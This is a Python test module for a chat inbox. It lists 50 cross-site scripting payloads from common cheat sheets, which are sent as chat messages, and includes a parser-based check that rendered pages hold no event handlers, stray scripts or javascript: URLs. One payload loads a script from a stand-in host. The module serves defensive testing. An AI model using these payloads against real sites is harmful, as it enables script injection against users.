"""Hostile chat messages for the inbox tests (HTTP and real browser), and the check that a
page holds nothing that could run them."""

from __future__ import annotations

from html.parser import HTMLParser

# 50 payloads from the usual XSS cheat sheets, each sent as a chat message.
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>klick</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=\"x\" onerror=\"alert(String.fromCharCode(88,83,83))\">", "<div style=\"background:url(javascript:alert(1))\">",
    "<style>@import 'javascript:alert(1)';</style>", "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<body onpageshow=alert(1)>", "<div onmouseover=alert(1)>x</div>",
    "<p onclick=alert(1)>klick</p>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<svg/onload=alert(1)>", "<img/src/onerror=alert(1)>", "\u202e<script>alert(1)</script>",
]
assert len(XSS) == 50


class Tags(HTMLParser):
    """Every element of a page with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_inert(page: str) -> None:
    """No element, attribute or URL in `page` that could run a script."""
    tags = Tags(page).tags
    assert [a for t, a in tags if t == "script"] == [{"src": "/static/berater.js", "defer": None}]
    assert {t for t, _ in tags} <= {"html", "head", "meta", "title", "link", "script", "body", "a", "header",
                                    "nav", "span", "form", "input", "button", "main", "p", "h1", "h2",
                                    "h3", "section", "label", "select", "option", "dl", "dt", "dd", "ol",
                                    "ul", "li", "time", "strong", "textarea", "div", "table", "caption",
                                    "thead", "tbody", "tr", "th", "td"}
    for tag, attrs in tags:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        for value in attrs.values():
            assert not (value or "").strip().lower().startswith(("javascript:", "data:")), (tag, attrs)
